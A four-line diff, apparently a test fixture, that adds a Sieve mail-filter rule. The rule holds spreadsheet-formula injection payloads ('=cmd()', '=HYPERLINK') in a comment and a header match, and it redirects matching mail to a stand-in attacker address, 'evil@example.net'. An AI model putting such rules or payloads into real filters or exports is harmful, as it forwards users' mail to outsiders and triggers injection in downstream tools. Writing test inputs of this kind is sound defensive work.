@@ -1,0 +1,4 @@
+# rule:[=cmd()]
+if header :is "subject" "=HYPERLINK(\"x\")" {
+  redirect "evil@example.net";
+}
